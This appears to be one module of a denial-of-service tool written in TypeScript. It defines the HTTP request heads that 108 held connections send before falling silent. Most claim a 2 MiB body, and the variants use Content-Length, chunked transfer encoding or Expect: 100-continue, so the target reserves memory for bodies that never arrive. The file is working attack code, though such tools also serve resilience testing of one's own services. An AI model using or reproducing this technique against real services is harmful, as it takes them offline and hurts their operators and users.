import type { HeldRequest } from './attack-job.js';
import { postHead } from './request-head.js';

/** By default. */
const MAX_BODY_BYTES = 2_097_152;

/** Sizes that 108 connections announce, one after the other: what is left by a larger size goes to a smaller one. */
const CLAIMED_BYTES: readonly number[] = [
  ...Array<number>(95).fill(MAX_BODY_BYTES),
  770_000,
  ...Array<number>(2).fill(250),
  ...Array<number>(10).fill(40),
];

/** The bytes that a connection sends before it falls silent. */
export const HELD_REQUESTS: Readonly<Record<HeldRequest, (index: number, key: string | undefined) => string>> = {
  claim: (index, key) => postHead(key, contentLength(index)),
  // Without a length the service has to reckon with the largest body.
  'chunked claim': (index, key) => {
    const isLargest = getBytes(index) === MAX_BODY_BYTES;
    return postHead(key, isLargest ? 'Transfer-Encoding: chunked' : contentLength(index));
  },
  'expecting claim': (index, key) => postHead(key, contentLength(index), 'Expect: 100-continue'),
  nothing: () => '',
};

function contentLength(index: number): string {
  return `Content-Length: ${getBytes(index)}`;
}

function getBytes(index: number): number {
  return CLAIMED_BYTES[index % CLAIMED_BYTES.length] ?? 0;
}
